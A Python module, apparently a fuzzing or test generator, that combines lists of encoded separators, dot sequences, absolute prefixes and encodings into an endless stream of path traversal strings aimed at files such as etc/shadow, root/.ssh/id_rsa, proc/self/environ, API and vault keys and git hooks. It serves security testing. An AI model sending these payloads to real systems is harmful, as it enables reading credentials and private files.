"""Ten thousand ways to write a path that leads elsewhere, made from a few by rules: the same ones every time."""

from __future__ import annotations

import itertools
import random
from collections.abc import Callable, Iterator

SEPARATORS = [
    *(
        "/",
        "//",
        "///",
        "%2f",
        "%2F",
        "%252f",
        "%25252f",
        "\\",
        "%5c",
        "%255c",
        "/./",
        "%2f.%2f",
        "/;/",
        "%00/",
        "/%20/",
    ),
    *(
        "%c0%af",
        "%e0%80%af",
        "%f0%80%80%af",
        "%c1%9c",
        "\u2215",
        "\uff0f",
        "\u29f8",
        "\u2044",
        "%u2215",
        "%u002f",
        "0x2f",
        "+/+",
    ),
]
DOTS = [
    *(
        "..",
        "%2e%2e",
        ".%2e",
        "%2E.",
        "%252e%252e",
        "%25252e%25252e",
        "%c0%ae%c0%ae",
        "%e0%80%ae%e0%80%ae",
        "....",
        "..;",
    ),
    *(
        "..%00",
        "..%01",
        ".. ",
        "..%20",
        ".%00.",
        "\uff0e\uff0e",
        "\u2024\u2024",
        "\u2025",
        "%u002e%u002e",
        "..%0a",
        "..%0d%0a",
    ),
    *(
        "..\u200b",
        "..\u202e",
        "..%ff",
        ".\\.",
        "..:",
        "..::$DATA",
        "~",
        "~root",
        "$HOME",
        "%24HOME",
        "%HOME%",
        "*",
        "?",
        ".",
    ),
]
TARGETS = [
    *(
        "etc/passwd",
        "etc/shadow",
        "proc/self/environ",
        "proc/1/cwd/etc/passwd",
        "dev/zero",
        "root/.ssh/id_rsa",
        "canary",
    ),
    *(
        "platform.db",
        "api-key",
        "admin-key",
        "vault-key",
        "platform.log",
        "store",
        "repositories",
        "run/api.sock",
        "lock",
    ),
    *(
        ".git/config",
        ".git/HEAD",
        "HEAD",
        "objects/info/packs",
        "config",
        "hooks/post-receive",
        "COM1",
        "C:/Windows/win.ini",
    ),
]
ABSOLUTE = [
    *(
        "/",
        "//",
        "file:///",
        "file:/",
        "file://localhost/",
        "data:///",
        "data://",
        "data%3a%2f%2f",
        "\\\\localhost\\c$\\",
    ),
    *(
        "\\\\?\\C:\\",
        "C:\\",
        "c:/",
        "D:",
        "%2f",
        "%252f",
        "%5c%5c",
        "/proc/self/root/",
        "/proc/self/cwd/",
        "/dev/fd/../../",
    ),
]
CODINGS: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    lambda text: "".join(f"%25{byte:02X}" for byte in text.encode()),
    lambda text: text.replace(".", "%2e").replace("/", "%2F"),
    lambda text: text.replace("/", "%5C"),
    lambda text: text.replace("e", "%65").replace("a", "%61"),
    lambda text: text.upper(),
    lambda text: text + "%00.txt",
    lambda text: text + "%23?x=",
    lambda text: text + "/" * 50,
    lambda text: text + "%20",
    lambda text: "a" * 3000 + "/../" + text,
]


def tails() -> Iterator[str]:
    """Yield what can stand for a name and all after it, every rule with every other, then at random without end."""
    for dots, separator in itertools.product(DOTS, SEPARATORS):
        yield separator.join([dots] * 4 + ["canary"])
    for start, target in itertools.product(ABSOLUTE, TARGETS):
        yield start + target
    for coding, target, depth in itertools.product(CODINGS, TARGETS, (1, 3, 8)):
        yield coding("../" * depth + target)
    chance = random.Random(54)
    while True:
        parts = []
        for _ in range(chance.randrange(1, 9)):
            parts += [chance.choice(DOTS), chance.choice(SEPARATORS)]
        yield chance.choice(["", *ABSOLUTE]) + chance.choice(CODINGS)("".join(parts) + chance.choice(TARGETS))
